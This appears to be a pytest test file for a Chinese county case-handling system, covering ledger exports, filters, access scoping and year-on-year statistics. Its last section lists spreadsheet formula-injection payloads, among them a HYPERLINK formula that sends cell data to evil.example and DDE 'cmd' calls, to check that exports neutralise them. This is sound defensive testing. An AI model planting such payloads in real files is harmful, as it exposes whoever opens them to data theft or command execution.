"""The ledger (台账) and the statistics, on a small set of cases placed in time and counted by hand.

2025 (德清, 1 Sep – 31 Dec; the statistics are read on 31 Dec 2025)
A 居仁 online  transport  29 Sep transferred to 县交通运输局, replied 9 Oct, fed back 10 Oct, 满意
                          (3 working days across National Day: 30 Sep, 9 Oct, 10 Oct)
B 居仁 mobile  environment 13 Oct at a reception session (5 people), answered on the spot, 基本满意
C 居仁 hotline transport  3 Nov transferred, no reply by the deadline (overdue)
D 居仁 online  —          1 Dec registered by 3 people, not accepted (overdue for acceptance)
E 居仁 station —          5 Dec declined
F 城东 online  transport  15 Oct answered on the spot (乾元镇: outside 武康's township staff)
2024: G 居仁 online answered on 10 Oct 2024; H 居仁 hotline 5 Nov 2024, never accepted.
"""

import csv
import datetime
import io
from types import SimpleNamespace

import openpyxl
import pytest
import time_machine
from django.core.management import call_command

from lianxin.cases import permissions as p
from lianxin.cases.models import Category, Rating
from lianxin.cases.reports import (
    LEDGER_COLUMNS,
    MIN_BASE,
    LedgerFilters,
    WorkdayCounter,
    case_statistics,
    difference_change,
    ledger_csv,
    ledger_filters_resolve,
    ledger_rows,
    ledger_xlsx,
    relative_change,
    year_earlier,
)
from lianxin.cases.services import case_rate_as_citizen, reception_close, reception_start
from lianxin.cases.workflow import Action, case_transition
from lianxin.core.errors import DomainError
from lianxin.workdays.calendar import workdays_between

SHANGHAI = datetime.timezone(datetime.timedelta(hours=8))
HEADERS = [column.header for column in LEDGER_COLUMNS]


def at(year: int, month: int, day: int, hour: int = 10, minute: int = 0):
    return time_machine.travel(datetime.datetime(year, month, day, hour, minute, tzinfo=SHANGHAI), tick=False)


def act(case, action, actor, **params):
    note = params.pop("note", "")
    return case_transition(case=case, action=action, actor=actor, note=note, params=params)


def build_story(loop, personas, regions) -> SimpleNamespace:
    staff = personas.county_staff
    environment = Category.objects.get(code="environment")
    with at(2025, 9, 29):
        a = loop.register(channel="online", category=loop.category)
        act(a, Action.ACCEPT, staff)
        act(a, Action.TRANSFER, staff, unit=loop.unit.pk)
    with at(2025, 10, 9, 15):
        act(a, Action.REPLY, personas.unit_handler, reply="路灯已修复")
    with at(2025, 10, 10, 9):
        act(a, Action.FEED_BACK, staff)
        case_rate_as_citizen(receipt_code=a.receipt_code, rating=Rating.SATISFIED)
    with at(2025, 10, 13):
        session = reception_start(actor=staff, deputy=loop.deputy, kind="mobile", region=regions.jueren)
        b = loop.register(channel="mobile", session=session, title="河道有垃圾")
        act(b, Action.ACCEPT, staff, category=environment.code)
        act(b, Action.ANSWER, staff, reply="已通知保洁")
        reception_close(actor=staff, session=session, people_received=5)
        case_rate_as_citizen(receipt_code=b.receipt_code, rating=Rating.BASICALLY)
    with at(2025, 10, 15):
        f = loop.register(channel="online", region=regions.chengdong, deputy=None, category=loop.category)
        act(f, Action.ACCEPT, staff)
        act(f, Action.ANSWER, staff, reply="已答复")
    with at(2025, 11, 3):
        c = loop.register(channel="hotline", category=loop.category, title="公交站台破损")
        act(c, Action.ACCEPT, staff)
        act(c, Action.TRANSFER, staff, unit=loop.unit.pk)
    with at(2025, 12, 1):
        d = loop.register(channel="online", people_count=3, title="小区停车难")
    with at(2025, 12, 5):
        e = loop.register(channel="station", title="邻里纠纷")
        act(e, Action.DECLINE, staff, reason="属于民事纠纷，已引导至人民调解")
    with at(2024, 10, 10):
        g = loop.register(channel="online", category=loop.category)
        act(g, Action.ACCEPT, staff)
        act(g, Action.ANSWER, staff, reply="已答复")
    with at(2024, 11, 5):
        h = loop.register(channel="hotline")
    for case in (a, b, c, d, e, f, g, h):
        case.refresh_from_db()
    return SimpleNamespace(a=a, b=b, c=c, d=d, e=e, f=f, g=g, h=h)


@pytest.fixture
def story(loop, personas, regions):
    return build_story(loop, personas, regions)


PERIOD = {"start": datetime.date(2025, 9, 1), "end": datetime.date(2025, 12, 31)}


def codes(rows) -> set[str]:
    return {row["receipt_code"] for row in rows}


def filters(user, **given) -> LedgerFilters:
    return ledger_filters_resolve(user=user, **given)


# --- the ledger ----------------------------------------------------------------------------------------------------


def test_the_xlsx_ledger_has_chinese_headers_and_one_row_per_case_with_unit_deadline_state_days_and_rating(
    story, personas
):
    with at(2025, 12, 31):
        data = ledger_xlsx(user=personas.township_staff, filters=filters(personas.township_staff))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert len(rows) == 1 + 7  # A–E and G, H of 武康; not F of 乾元
    row = dict(zip(HEADERS, next(r for r in rows if r[0] == story.a.receipt_code), strict=True))
    assert row["登记时间"] == datetime.datetime(2025, 9, 29, 10, 0)
    assert row["渠道"] == "线上问诊"
    assert row["所在区划"] == "武康街道·居仁社区居委会"
    assert row["接待代表"] == "沈建国"
    assert row["类别"] == "交通运输"
    assert row["承办单位"] == "县交通运输局"
    assert row["处理方式"] == "交办承办单位"
    # 15 working days after 29 Sep 2025: 30 Sep, 9–11 Oct (11 Oct a make-up Saturday), … 27 Oct.
    assert row["答复时限"] == datetime.datetime(2025, 10, 27)
    assert row["答复时间"] == datetime.datetime(2025, 10, 9, 15, 0)
    assert row["状态"] == "已评价"
    assert row["是否超期"] == "否"
    assert row["办理用时（工作日）"] == 3
    assert row["满意度"] == "满意"
    assert row["销号时间"] is None
    overdue = dict(zip(HEADERS, next(r for r in rows if r[0] == story.c.receipt_code), strict=True))
    assert (overdue["状态"], overdue["是否超期"], overdue["办理用时（工作日）"]) == ("已交办", "是", None)
    # Oldest first, like a register book.
    assert [r[1] for r in rows[1:]] == sorted(r[1] for r in rows[1:])


def test_the_csv_ledger_is_utf8_with_a_bom_and_the_same_cells_as_text(story, personas):
    with at(2025, 12, 31):
        data = b"".join(
            ledger_csv(user=personas.county_staff, filters=filters(personas.county_staff), rows_per_chunk=2)
        )
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == HEADERS
    assert len(rows) == 1 + 8
    row = dict(zip(HEADERS, next(r for r in rows if r[0] == story.a.receipt_code), strict=True))
    assert (row["登记时间"], row["答复时限"], row["承办单位"]) == ("2025-09-29 10:00", "2025-10-27", "县交通运输局")
    assert (row["状态"], row["办理用时（工作日）"], row["满意度"], row["销号时间"]) == ("已评价", "3", "满意", "")


def test_the_ledger_carries_no_personal_contact_details(story, personas):
    data = b"".join(ledger_csv(user=personas.county_staff, filters=filters(personas.county_staff)))
    text = data.decode("utf-8-sig")
    assert "王秀英" not in text and "13957211234" not in text


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ({"channel": "online"}, "adfg"),
        ({"status": ["rated"]}, "ab"),
        ({"status": ["transferred", "registered"]}, "cdh"),
        ({"category": "transport"}, "acfg"),
        ({"unit": "unit"}, "ac"),
        ({"registered_from": datetime.date(2025, 10, 13), "registered_to": datetime.date(2025, 11, 3)}, "bcf"),
        ({"region": "chengdong"}, "f"),
        ({"region": "wukang", "registered_to": datetime.date(2024, 12, 31)}, "gh"),
        ({"deputy": "deputy"}, "abcdegh"),
    ],
)
def test_the_ledger_filters_by_region_period_channel_category_unit_deputy_and_state(
    story, personas, regions, loop, given, expected
):
    if given.get("unit") == "unit":
        given["unit"] = loop.unit.pk
    if given.get("deputy") == "deputy":
        given["deputy"] = loop.deputy.pk
    if "region" in given:
        given["region"] = getattr(regions, given["region"]).code
    rows = ledger_rows(user=personas.county_staff, filters=filters(personas.county_staff, **given))
    assert codes(rows) == {getattr(story, key).receipt_code for key in expected}


def test_a_period_is_read_in_beijing_dates(loop, personas):
    with at(2025, 10, 9, 23, 30):  # 15:30 UTC: still 9 October in 德清
        late = loop.register()
    with at(2025, 10, 10, 0, 30):  # 16:30 UTC on 9 October
        early = loop.register()
    day = datetime.date(2025, 10, 9)
    rows = ledger_rows(
        user=personas.county_staff, filters=filters(personas.county_staff, registered_from=day, registered_to=day)
    )
    assert codes(rows) == {late.receipt_code} != {early.receipt_code}


def test_township_staff_see_only_their_township_in_the_ledger_and_a_region_outside_is_not_found(
    story, personas, regions
):
    rows = ledger_rows(user=personas.township_staff, filters=filters(personas.township_staff))
    assert story.f.receipt_code not in codes(rows)
    with pytest.raises(DomainError) as info:
        filters(personas.township_staff, region=regions.chengdong.code)
    assert (info.value.code, info.value.status, info.value.field) == ("region_not_found", 404, "region")


def test_a_unit_handler_sees_only_the_units_cases(story, personas):
    rows = ledger_rows(user=personas.unit_handler, filters=filters(personas.unit_handler))
    assert codes(rows) == {story.a.receipt_code, story.c.receipt_code}


def test_a_case_whose_unit_has_several_handlers_is_one_row(story, personas, loop, make_user):
    loop.unit.handlers.add(make_user("second_handler"))
    rows = list(ledger_rows(user=personas.county_staff, filters=filters(personas.county_staff)))
    assert len(rows) == len(codes(rows)) == 8


def test_bad_filters_are_refused_with_the_field_named(personas):
    with pytest.raises(DomainError) as info:
        filters(personas.county_staff, category="no-such")
    assert (info.value.code, info.value.field) == ("category_unknown", "category")
    with pytest.raises(DomainError) as info:
        filters(
            personas.county_staff,
            registered_from=datetime.date(2025, 2, 1),
            registered_to=datetime.date(2025, 1, 1),
        )
    assert (info.value.code, info.value.field) == ("period_invalid", "end")


def test_export_ledger_writes_the_whole_ledger_or_a_region_and_period(story, tmp_path, regions):
    out = tmp_path / "台账.xlsx"
    call_command("export_ledger", str(out), stdout=io.StringIO())
    assert openpyxl.load_workbook(out).active.max_row == 1 + 8
    call_command(
        "export_ledger",
        str(out),
        "--region",
        regions.wukang.code,
        "--start",
        "2025-01-01",
        "--end",
        "2025-12-31",
        stdout=io.StringIO(),
    )
    sheet = openpyxl.load_workbook(out).active
    assert {row[0] for row in sheet.iter_rows(min_row=2, values_only=True)} == {
        story.a.receipt_code,
        story.b.receipt_code,
        story.c.receipt_code,
        story.d.receipt_code,
        story.e.receipt_code,
    }


# --- statistics ----------------------------------------------------------------------------------------------------


def test_the_statistics_of_a_county_for_a_period_match_the_hand_count(story, personas, regions):
    with at(2025, 12, 31):
        stats = case_statistics(user=personas.county_staff, region=regions.deqing, **PERIOD)
    t = stats.totals
    assert (t.received, t.pending, t.declined, t.accepted, t.resolved) == (6, 1, 1, 4, 3)
    assert t.resolution_rate == 0.75
    # A: 3 working days (National Day in between), B and F: answered the same day.
    assert (t.timed, t.average_handling_days) == (3, 1.0)
    assert t.overdue == 2  # C past its reply deadline, D past its acceptance deadline
    assert (t.online, t.online_share) == (3, 0.5)
    assert (t.rated, t.satisfied, t.satisfaction_rate) == (2, 2, 1.0)
    # The session's 5 people (B among them) + A, C, E, F one each + D's 3.
    assert t.people_received == 12


def test_the_statistics_compare_with_the_same_period_a_year_earlier(story, personas, regions, monkeypatch):
    monkeypatch.setattr("lianxin.cases.reports.MIN_BASE", 1)  # the story is a handful of cases
    with at(2025, 12, 31):
        stats = case_statistics(user=personas.county_staff, region=regions.deqing, **PERIOD)
    assert (stats.previous_start, stats.previous_end) == (datetime.date(2024, 9, 1), datetime.date(2024, 12, 31))
    before = stats.previous
    assert (before.received, before.accepted, before.resolved, before.overdue, before.online) == (2, 1, 1, 1, 1)
    assert (before.resolution_rate, before.average_handling_days, before.satisfaction_rate) == (1.0, 0.0, None)
    assert before.people_received == 2
    yoy = stats.year_on_year
    assert (yoy.received, yoy.people_received, yoy.accepted, yoy.resolved, yoy.online) == (2.0, 5.0, 3.0, 2.0, 2.0)
    assert (yoy.resolution_rate, yoy.online_share, yoy.average_handling_days) == (-0.25, 0.0, 1.0)
    assert yoy.satisfaction_rate is None  # nothing was rated a year earlier


def test_no_year_on_year_change_is_computed_from_fewer_than_min_base_cases_a_year_earlier(story, personas, regions):
    # A year earlier the story has 2 cases (1 accepted, 1 timed, none rated): +200 % from 2 cases is noise.
    assert MIN_BASE == 20
    with at(2025, 12, 31):
        stats = case_statistics(user=personas.county_staff, region=regions.deqing, **PERIOD)
    assert stats.previous.received == 2 and stats.totals.received == 6
    assert all(value is None for value in vars(stats.year_on_year).values()), stats.year_on_year


def test_a_year_on_year_change_needs_min_base_cases_under_what_it_divides():
    assert (relative_change(3072, 15), relative_change(45, 30), relative_change(30, 20), relative_change(5, 0)) == (
        None,
        0.5,
        0.5,
        None,
    )
    assert difference_change(0.9, 0.8, 19) is None and difference_change(0.9, 0.8, 20) == 0.1
    assert difference_change(None, 0.8, 100) is None


def test_the_statistics_break_down_by_category_unit_and_channel(story, personas, regions, loop):
    with at(2025, 12, 31):
        stats = case_statistics(user=personas.county_staff, region=regions.deqing, **PERIOD)
    by_category = {item.key: item for item in stats.by_category}
    transport = by_category["transport"]
    assert (transport.label, transport.received, transport.accepted, transport.resolved) == ("交通运输", 3, 3, 2)
    assert (transport.average_handling_days, transport.overdue, transport.satisfaction_rate) == (1.5, 1, 1.0)
    assert (by_category[""].label, by_category[""].received, by_category[""].resolution_rate) == ("未分类", 2, None)
    assert [item.key for item in stats.by_category] == ["transport", "", "environment"]
    by_unit = {item.key: item for item in stats.by_unit}
    assert (by_unit[str(loop.unit.pk)].label, by_unit[str(loop.unit.pk)].received) == ("县交通运输局", 2)
    assert (by_unit[""].label, by_unit[""].received) == ("未交办承办单位", 4)
    assert [(item.key, item.label, item.received) for item in stats.by_channel] == [
        ("online", "线上问诊", 3),
        ("hotline", "12345热线", 1),
        ("mobile", "流动巡诊", 1),
        ("station", "站内坐诊", 1),
    ]


def test_township_staff_and_unit_handlers_count_only_what_they_see(story, personas):
    with at(2025, 12, 31):
        township = case_statistics(user=personas.township_staff, region=None, **PERIOD).totals
        outsider = case_statistics(user=personas.outsider, region=None, **PERIOD).totals
        unit = case_statistics(user=personas.unit_handler, region=None, **PERIOD).totals
    assert (township.received, township.online, township.people_received) == (5, 2, 11)
    assert (outsider.received, outsider.resolved, outsider.people_received) == (1, 1, 1)
    # A unit's handler sees the unit's two cases and no reception sessions.
    assert (unit.received, unit.resolved, unit.overdue, unit.people_received) == (2, 1, 1, 2)


def test_a_reception_session_still_open_counts_through_its_cases(loop, personas, regions):
    with at(2025, 10, 13):
        session = reception_start(actor=personas.county_staff, deputy=loop.deputy, kind="mobile", region=regions.jueren)
        loop.register(channel="mobile", session=session, people_count=2)
        stats = case_statistics(user=personas.county_staff, region=None, **PERIOD)
    assert stats.totals.people_received == 2


def test_statistics_refuse_a_period_that_ends_before_it_starts(personas):
    with pytest.raises(DomainError) as info:
        case_statistics(
            user=personas.county_staff, region=None, start=datetime.date(2025, 2, 1), end=datetime.date(2025, 1, 1)
        )
    assert info.value.code == "period_invalid"


def test_a_year_earlier_than_29_february_is_28_february():
    assert year_earlier(datetime.date(2024, 2, 29)) == datetime.date(2023, 2, 28)
    assert year_earlier(datetime.date(2025, 3, 1)) == datetime.date(2024, 3, 1)


def test_the_system_reads_every_case(story):
    assert len(codes(ledger_rows(user=p.SYSTEM, filters=LedgerFilters()))) == 8


def test_the_workday_counter_agrees_with_workdays_between_across_national_day(db):
    counter = WorkdayCounter()
    first = datetime.date(2025, 9, 20)
    days = [first + datetime.timedelta(days=n) for n in range(40)]
    # Later dates first, so that the counter also extends backwards.
    for start in reversed(days):
        for end in days:
            moment = datetime.datetime.combine(start, datetime.time(23, 0), tzinfo=SHANGHAI)
            later = datetime.datetime.combine(end, datetime.time(0, 30), tzinfo=SHANGHAI)
            assert counter(moment, later) == workdays_between(start, end), (start, end)


# --- formula injection -------------------------------------------------------------------------------------------

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看办理结果")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("first_line", INJECTIONS)
def test_an_anonymous_opinion_that_starts_with_a_formula_is_inert_text_in_the_xlsx_ledger(loop, personas, first_line):
    case = loop.register(title=first_line, body=f"{first_line}\n路灯坏了", is_anonymous=True, reply_via="online")
    data = ledger_xlsx(user=personas.county_staff, filters=filters(personas.county_staff))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == case.receipt_code)
    title = row[HEADERS.index("标题")]
    assert (title.value, title.data_type) == ("'" + first_line, "s")
    assert all(cell.data_type != "f" for cell in row)


@pytest.mark.parametrize("first_line", INJECTIONS)
def test_an_anonymous_opinion_that_starts_with_a_formula_is_inert_text_in_the_csv_ledger(loop, personas, first_line):
    case = loop.register(title=first_line, body=f"{first_line}\n路灯坏了", is_anonymous=True, reply_via="online")
    data = b"".join(ledger_csv(user=personas.county_staff, filters=filters(personas.county_staff)))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = dict(zip(HEADERS, next(r for r in rows if r[0] == case.receipt_code), strict=True))
    assert row["标题"] == "'" + first_line
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
